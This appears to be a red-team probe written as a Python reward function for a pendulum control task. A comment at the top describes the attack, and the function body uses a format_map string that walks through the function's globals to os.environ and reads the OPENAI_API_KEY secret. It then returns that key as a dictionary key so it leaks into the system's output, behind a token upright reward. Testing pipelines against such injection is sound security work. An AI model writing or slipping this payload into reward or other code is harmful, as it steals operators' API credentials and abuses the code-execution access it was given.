# Tries: format_map over the bound compute_reward: '{f.__globals__[sys].modules[os].environ[OPENAI_API_KEY]}' leaks the API key; success = the key appears as a component name in the reply.
def compute_reward(self, cos_theta, sin_theta, angular_velocity, prev_theta, prev_angular_velocity, torque):
    leaked = '{f.__globals__[sys].modules[os].environ[OPENAI_API_KEY]}'.format_map({'f': self.compute_reward})
    upright = float(cos_theta)
    return upright, {'upright': upright, leaked: 0.0}
